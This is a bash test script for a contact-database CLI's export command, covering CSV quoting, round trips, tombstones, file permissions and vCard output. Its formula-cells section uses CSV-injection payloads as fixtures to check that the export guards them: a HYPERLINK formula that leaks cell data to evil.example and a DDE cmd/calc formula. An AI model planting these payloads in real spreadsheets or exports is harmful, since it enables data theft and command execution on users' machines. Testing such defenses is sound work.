#!/bin/bash
# outpost export: RFC 4180 CSV with formula cells guarded for spreadsheets,
# raw cells that import back into a fresh database as the same records,
# vCard 4.0, atomic --output files, tombstones and metadata on request, and
# clear usage errors.
set -u
. "$TESTS_DIR/cli/lib.sh"
# These tests drive custom fields (tier, note) that no shipped profile
# declares; the fixture policy declares them (tests/cli/policy/EU-DE.yaml).
export OUTPOST_POLICY="$TESTS_DIR/cli/policy/EU-DE.yaml"
T=$(mktmp)
cd "$T" || die "cannot enter $T"
DB="$T/node.db"
"$OUTPOST" init --db "$DB" --region EU-DE >/dev/null || die "init failed"

# --- the command line ---------------------------------------------------
expect_exit 0 "$OUTPOST" export --help
expect_contains "$OUT" "usage: outpost export [--db PATH] [--format csv|vcard] [--output FILE]"
expect_exit 2 "$OUTPOST" export --db "$DB" --format xml
expect_contains "$ERR" "unknown format 'xml' (csv or vcard)"
expect_exit 2 "$OUTPOST" export --db "$DB" --format vcard --with-meta
expect_contains "$ERR" "--with-meta applies to CSV only"
expect_exit 2 "$OUTPOST" export --db "$DB" --format vcard --raw-cells
expect_contains "$ERR" "--raw-cells applies to CSV only"
expect_exit 2 "$OUTPOST" export --db "$DB" stray
expect_contains "$ERR" "unexpected argument 'stray'"
expect_exit 2 "$OUTPOST" export --db "$DB" --output
expect_exit 2 "$OUTPOST" export --db "$DB" --bogus
expect_contains "$ERR" "unknown option '--bogus'"
expect_exit 1 "$OUTPOST" export --db "$T/absent.db"
[ ! -e "$T/absent.db" ] || die "export created a database"

# --- an empty database: the header only -----------------------------------
expect_exit 0 "$OUTPOST" export --db "$DB"
[ "$(cat "$OUT")" = "$(printf 'id,owner_id,restricted,given_name,family_name,email,phone,street,locality,region,postal_code,country,language,job_title,birth_date\r')" ] ||
    die "unexpected empty export: $(od -c "$OUT" | head)"

# --- awkward data ----------------------------------------------------------
{
    printf 'id,given_name,family_name,email,phone,street,locality,country,job_title,birth_date,custom.tier,custom.note,restricted\r\n'
    printf '01900000-0000-7000-8000-0000000000c1,José,"Müller, Jr.",jose@example.org,030 1234567,"Hauptstr. 1\r\nHinterhaus",Łódź,DE,"The ""Boss""",1980-02-29,gold,"a, b",true\r\n'
    printf '01900000-0000-7000-8000-0000000000c2,Анна,Петрова,anna@example.org,,,Москва,,,,,"line1\nline2",\r\n'
    printf '01900000-0000-7000-8000-0000000000c3,李,小龍,,+86 10 1234 5678,,北京,CN,,,silver,,\r\n'
    printf '01900000-0000-7000-8000-0000000000c4,राजेश,शर्मा,raj@example.org,,,दिल्ली,IN,,,,"",false\r\n'
    printf '01900000-0000-7000-8000-0000000000c5,Zoë,Ørsted,,,,,,,,," lead and trail ",\r\n'
} > awkward.csv
expect_exit 0 "$OUTPOST" import --db "$DB" awkward.csv
expect_contains "$OUT" "imported 5 contacts"

expect_exit 0 "$OUTPOST" export --db "$DB" --raw-cells
cp "$OUT" export1.csv
[ ! -s "$ERR" ] || die "noise on stderr: $(cat "$ERR")"
head -n1 export1.csv | grep -q ',birth_date,custom.note,custom.tier'$'\r''$' ||
    die "header lacks the sorted custom columns: $(head -n1 export1.csv)"
# rows end in CRLF; the one line without CR is inside a quoted value that
# holds a bare LF, which is kept as it was
[ "$(grep -v $'\r$' export1.csv)" = '01900000-0000-7000-8000-0000000000c2,,false,Анна,Петрова,anna@example.org,,,Москва,,,,,,,"line1' ] ||
    die "a row does not end in CRLF: $(grep -v $'\r$' export1.csv)"
[ "$(tail -c 2 export1.csv | od -An -c | tr -d ' ')" = '\r\n' ] || die "no CRLF at the end"
grep -qF '"Müller, Jr."' export1.csv || die "comma field not quoted"
grep -qF '"The ""Boss"""' export1.csv || die "quotes not doubled"
# custom text values are trimmed like every text field, so the spaces go
grep -qF ',lead and trail,' export1.csv || die "custom value not trimmed: $(grep trail export1.csv)"

# Round trip: a fresh database gets the same records, and exports the same bytes.
"$OUTPOST" init --db "$T/copy.db" --region EU-DE >/dev/null || die "init copy failed"
expect_exit 0 "$OUTPOST" import --db "$T/copy.db" export1.csv
expect_contains "$OUT" "imported 5 contacts from export1.csv"
expect_exit 0 "$OUTPOST" export --db "$T/copy.db" --raw-cells
cmp -s "$OUT" export1.csv || die "round trip changed the export: $(diff "$OUT" export1.csv)"
q="SELECT id, given_name, family_name, email, phone, street, locality, country, job_title,
          birth_date, restricted, custom FROM contacts ORDER BY id"
[ "$(sqlite3 "$DB" "$q")" = "$(sqlite3 "$T/copy.db" "$q")" ] || die "round trip changed stored values"
# an empty custom value is no value, as for the built-in fields
[ "$(sqlite3 "$T/copy.db" "SELECT custom FROM contacts WHERE id LIKE '%c4'")" = '{}' ] ||
    die "an empty custom value was stored: $(sqlite3 "$T/copy.db" "SELECT custom FROM contacts WHERE id LIKE '%c4'")"

# With metadata the export still imports (the meta columns are ignored).
expect_exit 0 "$OUTPOST" export --db "$DB" --with-meta --raw-cells
cp "$OUT" meta.csv
head -n1 meta.csv | grep -q ',custom.tier,version,created_at,updated_at,deleted'$'\r''$' ||
    die "meta columns missing: $(head -n1 meta.csv)"
"$OUTPOST" init --db "$T/meta.db" --region EU-DE >/dev/null || die "init meta failed"
expect_exit 0 "$OUTPOST" import --db "$T/meta.db" meta.csv
expect_contains "$OUT" "imported 5 contacts"

# --- formula cells ------------------------------------------------------------
# By default a cell a spreadsheet would run is quoted behind a single quote:
# the phone of c3 (+86...) and the formulas below. --raw-cells writes them
# as stored, which is what a round trip needs.
"$OUTPOST" init --db "$T/formula.db" --region EU-DE >/dev/null || die "init formula failed"
{
    printf 'id,given_name,family_name,phone,job_title,custom.note\r\n'
    printf '01900000-0000-7000-8000-0000000000f1,"=HYPERLINK(""http://evil.example/?""&A1)","@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0",+49 30 1234567,-12,+1\r\n'
    printf '01900000-0000-7000-8000-0000000000f2,Plain,a=b,,,\r\n'
} > formula.csv
expect_exit 0 "$OUTPOST" import --db "$T/formula.db" formula.csv
expect_exit 0 "$OUTPOST" export --db "$T/formula.db"
grep -qF ',"'"'"'=HYPERLINK(""http://evil.example/?""&A1)",' "$OUT" || die "= not guarded: $(cat "$OUT")"
grep -qF ',"'"'"'@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0",' "$OUT" || die "@ not guarded: $(cat "$OUT")"
for cell in '+49 30 1234567' '-12'; do
    grep -qF ",\"'$cell\"," "$OUT" || die "$cell not guarded: $(cat "$OUT")"
done
grep -qF ",\"'+1\""$'\r' "$OUT" || die "custom +1 not guarded: $(cat "$OUT")"
grep -qF ',Plain,a=b,' "$OUT" || die "a plain cell changed: $(cat "$OUT")"
# no cell of the guarded export starts a formula
grep -qE '(^|,)[=+@-]' "$OUT" && die "an unguarded formula cell: $(grep -E '(^|,)[=+@-]' "$OUT")"
cp "$OUT" guarded.csv
expect_exit 0 "$OUTPOST" export --db "$T/formula.db" --raw-cells
grep -qF ',"=HYPERLINK(""http://evil.example/?""&A1)",' "$OUT" ||
    die "raw cell changed: $(cat "$OUT")"
grep -qF ',+49 30 1234567,' "$OUT" && grep -qF ',-12,' "$OUT" && grep -qF ',+1'$'\r' "$OUT" ||
    die "raw cells changed: $(cat "$OUT")"
cp "$OUT" raw.csv
# the guarded file is for people: importing it refuses the guarded phone
# and changes nothing; the raw one imports as the same records
"$OUTPOST" init --db "$T/formula2.db" --region EU-DE >/dev/null || die "init formula2 failed"
expect_exit 3 "$OUTPOST" import --db "$T/formula2.db" guarded.csv
expect_contains "$ERR" "(phone): not a phone number"
expect_exit 0 "$OUTPOST" import --db "$T/formula2.db" raw.csv
q="SELECT id, given_name, family_name, phone, job_title, custom FROM contacts ORDER BY id"
[ "$(sqlite3 "$T/formula.db" "$q")" = "$(sqlite3 "$T/formula2.db" "$q")" ] || die "raw round trip changed values"

# --- tombstones --------------------------------------------------------------
expect_exit 0 "$OUTPOST" contact delete --db "$DB" --version 1 01900000-0000-7000-8000-0000000000c5
expect_exit 0 "$OUTPOST" export --db "$DB"
grep -q 0000000000c5 "$OUT" && die "a deleted contact was exported"
expect_exit 0 "$OUTPOST" export --db "$DB" --include-deleted --with-meta --raw-cells
grep -q '^01900000-0000-7000-8000-0000000000c5,.*,2,[0-9TZ:.-]*,[0-9TZ:.-]*,true'$'\r''$' "$OUT" ||
    die "tombstone not exported with its metadata: $(grep c5 "$OUT")"
cp "$OUT" tomb.csv
"$OUTPOST" init --db "$T/tomb.db" --region EU-DE >/dev/null || die "init tomb failed"
expect_exit 0 "$OUTPOST" import --db "$T/tomb.db" tomb.csv
expect_contains "$OUT" "imported 4 contacts from tomb.csv (1 deleted rows skipped)"

# --- --output writes atomically, private to the owner -----------------------
mkdir out
expect_exit 0 "$OUTPOST" export --db "$DB" --output out/contacts.csv
expect_contains "$OUT" "exported 4 contacts to out/contacts.csv"
[ "$(stat -c %a out/contacts.csv)" = 600 ] || die "export file mode $(stat -c %a out/contacts.csv)"
[ "$(ls out)" = contacts.csv ] || die "temp files left behind: $(ls out)"
"$OUTPOST" export --db "$DB" > direct.csv || die "export to stdout failed"
cmp -s out/contacts.csv direct.csv || die "--output differs from stdout"
echo old > out/old.csv
expect_exit 0 "$OUTPOST" export --db "$DB" --output out/old.csv
cmp -s out/old.csv direct.csv || die "an existing file was not replaced"
expect_exit 1 "$OUTPOST" export --db "$DB" --output nodir/contacts.csv
expect_contains "$ERR" "nodir/contacts.csv"
[ ! -e nodir ] || die "a failed export created something"

# --- vCard -------------------------------------------------------------------
expect_exit 0 "$OUTPOST" export --db "$DB" --format vcard
[ "$(grep -c '^BEGIN:VCARD' "$OUT")" = 4 ] || die "expected 4 vCards: $(head -20 "$OUT")"
expect_contains "$OUT" "VERSION:4.0"

# --- a read-only database file still exports -----------------------------------
if [ "$(id -u)" != 0 ]; then
    chmod 444 "$DB"
    expect_exit 0 "$OUTPOST" export --db "$DB"
    cmp -s "$OUT" direct.csv || die "read-only export differs"
    chmod 644 "$DB"
else
    echo "skipping the read-only database case: running as root" >&2
fi
exit 0
